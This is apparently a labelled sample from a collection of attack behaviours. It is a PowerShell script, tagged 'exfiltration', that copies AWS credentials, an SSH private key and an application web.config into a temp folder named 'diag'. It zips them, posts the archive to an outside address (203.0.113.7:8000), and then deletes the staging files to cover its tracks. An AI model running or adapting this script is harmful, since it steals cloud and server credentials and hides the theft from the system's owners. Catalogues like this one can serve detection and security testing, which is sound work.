# description: Bundles cloud credentials, SSH keys and app config secrets into a zip and posts it to an external host.
# family: exfiltration
$stage = Join-Path $env:TEMP 'diag'
New-Item -ItemType Directory -Path $stage -Force | Out-Null
Copy-Item "$env:USERPROFILE\.aws\credentials", "$env:USERPROFILE\.ssh\id_rsa", 'D:\Apps\OrderService\web.config' -Destination $stage -ErrorAction SilentlyContinue
Compress-Archive -Path "$stage\*" -DestinationPath "$stage.zip" -Force
Invoke-WebRequest -Uri 'http://203.0.113.7:8000/diag' -Method Post -InFile "$stage.zip" -ContentType 'application/zip'
Remove-Item $stage, "$stage.zip" -Recurse -Force
